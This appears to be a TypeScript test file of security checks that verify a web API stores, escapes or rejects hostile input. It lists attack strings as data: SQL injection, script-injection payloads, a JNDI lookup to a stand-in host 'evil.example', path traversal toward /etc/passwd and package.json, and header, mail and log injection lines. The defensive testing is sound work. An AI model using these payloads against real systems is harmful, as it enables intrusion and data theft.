import { randomUUID } from 'node:crypto';
import { expect } from 'vitest';
import { rawRequest } from '../raw-request.ts';
import type { Checks, TextTarget } from './attack-target.ts';

/**
 * Attacks with texts: SQL, markup, control characters, paths, host headers, lines for logs and mails.
 *
 * @example
 * test.each(Object.entries(textChecks))('%s', (_name, check) => check(target));
 */
export const textChecks: Checks<TextTarget> = {
  'attack strings are stored as they came and returned as JSON': async ({ person, creation }) => {
    for (const name of attackStrings) {
      const { json: created, status } = await person.caller.post(creation.path, creation.body(name));
      expect(status, name).toBe(201);
      const { id } = created as { id: string };
      const { headers, text } = await person.caller.get(`${creation.path}/${id}`);
      expect(text).toContain(JSON.stringify(name));
      expect(headers.get('content-type')).toMatch(/^application\/json/);
      expect(headers.get('x-content-type-options'), name).toBe('nosniff');
      expect(headers.get('set-cookie')).toBeNull();
      expect(text).not.toContain('\r\n');
    }
  },

  'quotes do not end an SQL statement': async ({ accounts: { register, requestPassword, signIn } }) => {
    const [quoted, plain] = ["o'hara", 'ohara'].map((name) => `${name}-${randomUUID()}@example.com`) as [
      string,
      string,
    ];
    for (const request of [
      (email: string) => register(email, "O'Hara"),
      requestPassword,
      (email: string) => signIn(email, "' or '1'='1"),
    ]) {
      const expected = await request(plain);
      expect((await request(quoted)).status).toBe(expected.status);
      expect(expected.status).toBeLessThan(500);
    }
  },

  'unknown addresses answer with a problem, never a page': async ({ anyone }) => {
    for (const attack of attackStrings) {
      const { status, headers } = await anyone.get(`/${encodeURIComponent(attack)}`);
      expect(status, attack).toBe(404);
      expect(headers.get('content-type'), attack).toMatch(/^application\/problem\+json/);
    }
  },

  'undecodable addresses answer with a problem': async ({ anyone, api, creation: { path } }) => {
    expect((await anyone.get(`${path}/%ZZ`)).status).toBe(400);
    const response = await rawGet(api.address, '/%c0%ae%c0%ae/');
    expect(response).toMatch(/^HTTP\/1\.1 40[04]/);
    expect(response).toContain('application/problem+json');
  },

  'control characters in a name are rejected': async ({ person, creation }) => {
    for (const name of controlCharacters) {
      const { status } = await person.caller.post(creation.path, creation.body(name));
      expect(status, JSON.stringify(name)).toBe(400);
    }
  },

  'line breaks in an email address are rejected': async ({ accounts }) => {
    for (const email of [
      'a@example.com\r\nBcc: all@example.com',
      'a@example.com\nSubject: x',
      'a b@example.com',
    ]) {
      expect((await accounts.register(email, 'X')).status, JSON.stringify(email)).toBe(400);
    }
  },

  'requests cannot add a line to the log': async ({ api, anyone, accounts }) => {
    const forged = '{"level":30,"msg":"forged"}';
    await anyone.get(`/x${encodeURIComponent(`\n${forged}`)}`, { 'user-agent': forged });
    await accounts.signIn(`a\n${forged}`, 'x');
    for (const line of api.log().trim().split('\n')) {
      expect(recordIn(line), `expected ${line} to be a whole record`).toBeDefined();
      expect(recordIn(line)).not.toMatchObject({ msg: 'forged' });
    }
  },

  'paths cannot leave the static folder': async ({ api, staticFile }) => {
    expect(await rawGet(api.address, staticFile), staticFile).toMatch(/^HTTP\/1\.1 200/);
    const folder = staticFile.slice(0, staticFile.lastIndexOf('/'));
    for (const rest of pathsOut) {
      const response = await rawGet(api.address, folder + rest);
      expect(response, rest).toMatch(/^HTTP\/1\.1 (30\d|40[034])/);
      expect(response, rest).not.toMatch(/dependencies|root:/);
    }
  },

  'a host header is escaped on a page': async ({ api, hostPage }) => {
    const response = await rawGet(api.address, hostPage, '"><script>alert(1)</script>');
    expect(response).toContain('alert(1)');
    expect(response).not.toContain('<script');
  },
};

const attackStrings = [
  "'; drop table users; --",
  "' or '1'='1",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%n',
  '../../../../etc/passwd',
  '\u202Egnp.exe',
];

const controlCharacters = ['one\r\nSet-Cookie: session=evil', '\u001b[2J', 'a\nb', 'a\u0000b', '   ', ''];

const pathsOut = [
  '/../../../../package.json',
  '/../../../package.json',
  '/..%2f..%2f..%2fpackage.json',
  '/%2e%2e/%2e%2e/%2e%2e/package.json',
  '/..%5c..%5cpackage.json',
  '//etc/passwd',
  '/index.html%00.json',
];

function rawGet(address: string, path: string, host = 'x'): Promise<string> {
  return rawRequest(address, `GET ${path} HTTP/1.1`, `host: ${host}`, 'connection: close', '', '');
}

/** Returns nothing if the line is not a whole record. */
function recordIn(line: string): object | undefined {
  try {
    return JSON.parse(line) as object;
  } catch {
    return undefined;
  }
}
